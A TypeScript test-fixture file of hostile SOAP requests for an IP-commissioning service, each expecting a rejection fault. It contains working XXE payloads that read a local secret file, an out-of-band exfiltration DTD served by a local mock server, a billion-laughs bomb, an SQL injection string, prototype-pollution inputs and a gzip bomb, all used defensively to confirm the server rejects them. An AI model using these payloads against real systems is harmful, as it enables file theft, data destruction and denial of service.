/**
 * The hostile inputs of test/soap/hostile.test.ts (which also sends each as SOAP 1.2): each
 * case is a SOAP 1.1 request (raw bytes), the fault
 * code it must get, and extra checks. Also the local "secret" file an XXE would read and the
 * server a remote DTD would be fetched from, and the table snapshots that show nothing changed.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { TestStore } from './backends';
import { envelope, NS, type Fields, type SoapReply } from './soap';

export const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
export const MAX_BODY = 4096;
const TABLES = ['data_center', 'tenant', 'zone', 'network', 'free_range', 'allocation'];
/** What must never reach a client: stack frames, JS error names, node-soap's own messages. */
export const INTERNALS =
  /\.(js|ts):\d+:\d+|node_modules|\b(Type|Range|Reference|Syntax)Error\b|Cannot read|is not a function|is not iterable|InternalServerError/;

// A local file an XXE would try to read, and a server a remote DTD would be fetched from.
export const MARKER = `IPCD-SECRET-${randomBytes(8).toString('hex')}`;
const secretDir = mkdtempSync(join(tmpdir(), 'ipcd-hostile-'));
const SECRET_FILE = join(secretDir, 'secret.txt');
writeFileSync(SECRET_FILE, `${MARKER}\n`);

// ---- envelopes -------------------------------------------------------------------------------

const doc = (body: string, { prolog = '', header = '' } = {}) =>
  `<?xml version="1.0" encoding="UTF-8"?>${prolog}<s:Envelope xmlns:s="${SOAP11}" xmlns:i="${NS}">${header}<s:Body>${body}</s:Body></s:Envelope>`;
const el = (name: string, inner: string, attrs = '') => `<i:${name}${attrs}>${inner}</i:${name}>`;
/** A complete, valid CommissionIP with one parameter's XML replaced or added. */
const commissionXml = (
  replace: Partial<Record<'dataCenter' | 'vlan' | 'serverInstance', string>> = {},
  extra = '',
  attrs = '',
) =>
  doc(
    el(
      'CommissionIP',
      (replace.dataCenter ?? el('dataCenter', 'dc1')) +
        (replace.vlan ?? el('vlan', '100')) +
        (replace.serverInstance ?? el('serverInstance', 'vm-hostile')) +
        extra,
      attrs,
    ),
  );
/** CommissionIP with field values (escaped as text). */
const commission = (f: Fields) =>
  envelope('CommissionIP', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile', ...f });
const decommission = (f: Fields) => envelope('DecommissionIP', { dataCenter: 'dc1', vlan: 100, ...f });
const VALID_DECOMMISSION = el(
  'DecommissionIP',
  el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-seed'),
);
const billionLaughs =
  `<!DOCTYPE s:Envelope [<!ENTITY l0 "lol">` +
  Array.from({ length: 9 }, (_, k) => `<!ENTITY l${k + 1} "${`&l${k};`.repeat(10)}">`).join('') +
  `]>`;

export interface Case {
  name: string;
  body: () => string | Buffer;
  code: string;
  headers?: Record<string, string>;
  /** Extra checks on the reply (and the elapsed time). */
  check?: (r: SoapReply, ms: number, db: TestStore) => void | Promise<void>;
}

const mentions = (re: RegExp) => (r: SoapReply) => expect(r.fault?.message).toMatch(re);
const invalid = (name: string, body: () => string | Buffer, message?: RegExp, extra: Partial<Case> = {}): Case => ({
  name,
  body,
  code: 'INVALID_REQUEST',
  ...(message ? { check: mentions(message) } : {}),
  ...extra,
});

export const CASES: Case[] = [
  // not XML, or not well-formed
  invalid('truncated envelope', () => commission({}).slice(0, 150), /well-formed/),
  invalid('mismatched tags', () => commissionXml({ vlan: '<i:vlan>100</i:vlann>' }), /well-formed/),
  invalid('garbage bytes', () => Buffer.from([0xff, 0xfe, 0x00, 0x3c, 0x80, 0x81, 0x1b, 0x00, 0x7f])),
  invalid('empty body', () => ''),
  invalid(
    'JSON instead of XML',
    () => JSON.stringify({ CommissionIP: { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile' } }),
    /well-formed/,
    {
      headers: { 'Content-Type': 'application/json' },
    },
  ),
  invalid('text after the envelope', () => `${commission({})}trailing`, /well-formed/),
  invalid('an undefined entity reference', () => commission({}).replace('vm-hostile', '&nope;'), /well-formed/),

  // DTDs: external entities, parameter entities, remote DTDs, entity expansion
  invalid(
    'XXE: external entity reading a local file',
    () =>
      doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', '&xxe;')), {
        prolog: `<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file://${SECRET_FILE}">]>`,
      }),
    /DTD/,
    {
      check: async (r, _ms, db) => {
        expect(r.fault?.message).toMatch(/DTD/);
        expect(await dumpAll(db)).not.toContain(MARKER);
      },
    },
  ),
  invalid(
    'XXE: parameter entity loading a remote DTD (out-of-band exfiltration)',
    () =>
      doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile')), {
        prolog: `<!DOCTYPE s:Envelope [<!ENTITY % remote SYSTEM "${dtd.url}evil.dtd">%remote;]>`,
      }),
    /DTD/,
  ),
  invalid(
    'external DTD subset',
    () => doc(VALID_DECOMMISSION, { prolog: `<!DOCTYPE s:Envelope SYSTEM "${dtd.url}evil.dtd">` }),
    /DTD/,
  ),
  invalid(
    'lower-case doctype',
    () => doc(VALID_DECOMMISSION, { prolog: `<!doctype s:Envelope [<!ENTITY a "b">]>` }),
    /DTD/,
  ),
  invalid(
    'billion laughs',
    () =>
      doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', '&l9;')), {
        prolog: billionLaughs,
      }),
    /DTD/,
    {
      check: (r, ms) => {
        expect(r.fault?.message).toMatch(/DTD/);
        expect(r.raw.length).toBeLessThan(2048); // nothing was expanded into the reply
        expect(ms).toBeLessThan(2000); // a "did not expand" signal, not a performance claim
      },
    },
  ),

  // size
  {
    name: '100 KB body with Content-Length',
    body: () => commissionXml({}, `<!--${'x'.repeat(100 * 1024)}-->`),
    code: 'REQUEST_TOO_LARGE',
    check: mentions(new RegExp(`${MAX_BODY} bytes`)),
  },
  {
    name: 'gzip body inflating past the limit',
    body: () => gzipSync(commissionXml({}, `<!--${'x'.repeat(200 * 1024)}-->`)),
    code: 'REQUEST_TOO_LARGE',
    headers: { 'Content-Encoding': 'gzip' },
  },
  invalid('unsupported Content-Encoding', () => commission({}), /could not be read/, {
    headers: { 'Content-Encoding': 'x-unknown' },
  }),

  // wrong types and out-of-range values
  ...['abc', '12abc', '1.5', '0x64', '1e2', '١٠٠'].map((v) =>
    invalid(`vlan '${v}'`, () => commission({ vlan: v }), /vlan must be an integer/),
  ),
  invalid("vlan ''", () => commission({ vlan: '' }), /vlan is required/),
  invalid(
    'vlan holding an element',
    () => commissionXml({ vlan: el('vlan', el('n', '100')) }),
    /vlan must be an integer/,
  ),
  invalid('vlan given twice', () => commissionXml({ vlan: el('vlan', '100') + el('vlan', '100') })),
  invalid(
    'vlan xsi:nil',
    () => commissionXml({ vlan: `<i:vlan xmlns:xsi="${XSI}" xsi:nil="true"/>` }),
    /vlan is required/,
  ),
  ...['0', '4095', '-1', '99999', '99999999999999999999'].map((v) =>
    invalid(`vlan ${v}`, () => commission({ vlan: v }), /vlan/),
  ),
  invalid("wantAddress 'yes'", () => commission({ wantAddress: 'yes' }), /wantAddress must be true or false/),
  invalid("wantName 'TRUE'", () => commission({ wantName: 'TRUE' }), /wantName/),
  invalid("addressFamily 'IPv5'", () => commission({ addressFamily: 'IPv5' }), /addressFamily must be IPv4 or IPv6/),
  invalid('neither address nor name wanted', () => commission({ wantAddress: false, wantName: false }), /neither/),
  invalid('serverInstance missing', () => commission({ serverInstance: undefined }), /serverInstance is required/),
  invalid('serverInstance of 256 characters', () => commission({ serverInstance: 'a'.repeat(256) }), /serverInstance/),
  invalid(
    'serverInstance holding an element',
    () => commissionXml({ serverInstance: el('serverInstance', el('x', 'y')) }),
    /serverInstance/,
  ),

  // names
  {
    name: 'unknown VLAN in a data center',
    body: () => commission({ vlan: 999 }),
    code: 'UNKNOWN_VLAN',
    check: mentions(/VLAN 999/),
  },
  {
    name: 'unknown VLAN anywhere',
    body: () => commission({ dataCenter: undefined, vlan: 4094 }),
    code: 'UNKNOWN_VLAN',
    check: mentions(/VLAN 4094/),
  },
  {
    name: 'unknown data center',
    body: () => commission({ dataCenter: 'dc9' }),
    code: 'UNKNOWN_DATA_CENTER',
    check: mentions(/dc9/),
  },
  ...["dc1'; DROP TABLE network;--", '../dc1', 'dc 1', 'dc①', '-dc1', 'd'.repeat(64)].map((v) =>
    invalid(
      `dataCenter '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`,
      () => commission({ dataCenter: v }),
      /dataCenter must be/,
    ),
  ),
  ...['not_a_label', '-leading', 'trailing-', 'a.b', 'x'.repeat(64), 'ünïcode'].map((v) =>
    invalid(
      `hostnameHint '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`,
      () => commission({ wantName: true, hostnameHint: v }),
      /hostnameHint must be a DNS label/,
    ),
  ),
  invalid(
    'NameOnly with a hostnameHint that is not a DNS label',
    () => envelope('NameOnly', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile', hostnameHint: 'no_no' }),
    /hostnameHint/,
  ),

  // unknown elements and operations
  invalid('unknown element vlanId', () => commissionXml({ vlan: el('vlanId', '100') }), /unexpected element 'vlanId'/),
  invalid('extra unknown element', () => commissionXml({}, el('priority', '1')), /unexpected element 'priority'/),
  invalid(
    'unqualified parameters',
    () =>
      doc(
        el('CommissionIP', '<dataCenter>dc1</dataCenter><vlan>100</vlan><serverInstance>vm-hostile</serverInstance>'),
      ),
    /namespace/,
  ),
  invalid(
    'a parameter in a foreign namespace',
    () => commissionXml({ vlan: '<x:vlan xmlns:x="urn:example:evil">100</x:vlan>' }),
    /namespace/,
  ),
  {
    name: 'unknown operation',
    body: () => doc(el('GiveMeEverything', el('vlan', '100'))),
    code: 'UNSUPPORTED_OPERATION',
    check: mentions(/GiveMeEverything/),
  },
  {
    name: 'operation in a foreign namespace',
    body: () =>
      doc(
        '<x:CommissionIP xmlns:x="urn:example:evil"><x:dataCenter>dc1</x:dataCenter><x:vlan>100</x:vlan><x:serverInstance>vm-hostile</x:serverInstance></x:CommissionIP>',
      ),
    code: 'UNSUPPORTED_OPERATION',
    check: mentions(/urn:example:evil/),
  },
  {
    name: 'a Fault as the operation',
    body: () => doc('<s:Fault><faultcode>s:Client</faultcode><faultstring>x</faultstring></s:Fault>'),
    code: 'UNSUPPORTED_OPERATION',
  },

  // envelope shape and transport
  invalid('SOAPAction contradicting the body', () => commission({}), /SOAPAction/, {
    headers: { SOAPAction: `"${NS}/DecommissionIP"` },
  }),
  invalid('SOAPAction of no operation', () => commission({}), /SOAPAction/, {
    headers: { SOAPAction: 'urn:example:whatever' },
  }),
  invalid(
    'root element that is not an envelope',
    () => `<?xml version="1.0"?><html><body>${el('CommissionIP', '')}</body></html>`,
    /not a SOAP envelope/,
  ),
  invalid('Envelope in no namespace', () => '<Envelope><Body><CommissionIP/></Body></Envelope>', /not a SOAP envelope/),
  invalid('envelope without a Body', () => `<s:Envelope xmlns:s="${SOAP11}"><s:Header/></s:Envelope>`, /no operation/),
  invalid('empty Body', () => doc(''), /no operation/),
  invalid(
    'two operations in the Body',
    () =>
      doc(
        VALID_DECOMMISSION +
          el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile')),
      ),
    /exactly one operation/,
  ),
  invalid(
    'two Bodies',
    () => doc(VALID_DECOMMISSION).replace('</s:Envelope>', `<s:Body>${VALID_DECOMMISSION}</s:Body></s:Envelope>`),
    /one Body/,
  ),
  invalid(
    'an element after the Body',
    () => doc(VALID_DECOMMISSION).replace('</s:Envelope>', '<s:Trailer/></s:Envelope>'),
    /one Body/,
  ),
  invalid('text inside the operation', () => doc(el('CommissionIP', 'just text')), /text/),
  invalid('text mixed with the parameters', () => commissionXml({}, 'trailing text'), /text/),
  invalid('HTML Content-Type (the reply stays XML)', () => commissionXml({}, '<i:x><b>hi</b></i:x>'), undefined, {
    headers: { 'Content-Type': 'text/html' },
  }),

  // shapes node-soap's own parser cannot take (it answered them with its error text, or worse)
  invalid(
    'SOAP-encoding id="__proto__" (pollutes Object.prototype)',
    () => commissionXml({ vlan: el('vlan', '100', ' id="__proto__"') }),
    /id/,
  ),
  invalid('SOAP-encoding href="#__proto__"', () => commissionXml({ vlan: '<i:vlan href="#__proto__"/>' }), /href/),
  invalid(
    'SOAP-encoding multiRef cycle',
    () => commissionXml({ vlan: el('vlan', '<i:x href="#a"/>', ' id="a"') }),
    /id/,
  ),
  invalid(
    'element named __proto__',
    () =>
      doc(
        el(
          'CommissionIP',
          el('__proto__', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile')),
        ),
      ),
    /__proto__/,
  ),
  invalid('element named constructor', () => commissionXml({}, el('constructor', '1')), /constructor/),
  invalid(
    'xsi:type naming constructor',
    () => commissionXml({ vlan: el('vlan', '100', ` xmlns:xsi="${XSI}" xsi:type="i:constructor"`) }),
    /constructor/,
  ),
  invalid(
    'xsi:type in namespace __proto__',
    () => commissionXml({ vlan: el('vlan', '100', ` xmlns:xsi="${XSI}" xmlns:q="__proto__" xsi:type="q:int"`) }),
    /__proto__/,
  ),
  invalid(
    'CDATA holding a nested XML document',
    () => commissionXml({ serverInstance: el('serverInstance', '<![CDATA[<?xml version="1.0"?><a>]]>') }),
    /CDATA/,
  ),
  invalid(
    'elements nested 40 deep',
    () => commissionXml({ vlan: el('vlan', '<i:a>'.repeat(40) + '100' + '</i:a>'.repeat(40)) }),
    /deep/,
  ),

  // DecommissionIP
  invalid('DecommissionIP with nothing to identify', () => decommission({}), /say what to release/),
  invalid(
    'DecommissionIP releasing neither part',
    () => decommission({ serverInstance: 'vm-seed', releaseAddress: false, releaseName: false }),
    /releases nothing/,
  ),
  {
    name: 'DecommissionIP of an address never issued',
    body: () => decommission({ address: '10.0.0.200' }),
    code: 'NOT_FOUND',
    check: mentions(/10\.0\.0\.200/),
  },
  {
    name: 'DecommissionIP of a name never issued',
    body: () => decommission({ name: 'never-issued.dc1.example.com' }),
    code: 'NOT_FOUND',
  },
  {
    name: 'DecommissionIP of an address on another VLAN',
    body: () => decommission({ vlan: 200, address: '10.0.0.2' }),
    code: 'NOT_FOUND',
  },
  ...['10.0.0.300', 'not-an-ip', '2001:db8::g', '10.0.0.2/24', ''.padEnd(70, '1')].map((v) =>
    invalid(
      `DecommissionIP address '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`,
      () => decommission({ address: v }),
      /address must be an IPv4 or IPv6 address/,
    ),
  ),
  invalid('DecommissionIP name that is not a DNS name', () => decommission({ name: 'bad name!' }), /DNS name/),
];

/** The server a remote DTD would be fetched from; its fetches are recorded (there must be none). */
export const dtd = { url: 'http://127.0.0.1:9/', fetches: [] as string[] };
let dtdServer: Server | undefined;

export async function startDtdServer(): Promise<void> {
  dtdServer = createServer((req, res) => {
    dtd.fetches.push(req.url ?? '');
    res.setHeader('Content-Type', 'application/xml-dtd');
    res.end(
      `<!ENTITY % file SYSTEM "file://${SECRET_FILE}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${dtd.url}x?%file;'>">%eval;%exfil;`,
    );
  });
  await new Promise<void>((resolve) => dtdServer!.listen(0, '127.0.0.1', resolve));
  dtd.url = `http://127.0.0.1:${(dtdServer.address() as AddressInfo).port}/`;
}

export async function stopDtdServer(): Promise<void> {
  await new Promise((resolve) => (dtdServer ? dtdServer.close(resolve) : resolve(undefined)));
  rmSync(secretDir, { recursive: true, force: true });
}

/** Row count and content hash of every table. */
export async function snapshot(db: TestStore): Promise<Record<string, { rows: number; hash: string }>> {
  const out: Record<string, { rows: number; hash: string }> = {};
  for (const t of TABLES) {
    const [r] = await db.store.dataSource.query(
      `SELECT count(*)::int AS rows, md5(coalesce(string_agg(x::text, '|' ORDER BY x::text), '')) AS hash FROM ${t} x`,
    );
    out[t] = { rows: Number(r.rows), hash: r.hash };
  }
  return out;
}

export async function dumpAll(db: TestStore): Promise<string> {
  const parts: string[] = [];
  for (const t of TABLES)
    parts.push(
      ...(await db.store.dataSource.query(`SELECT x::text AS row FROM ${t} x`)).map((r: { row: string }) => r.row),
    );
  return parts.join('\n');
}
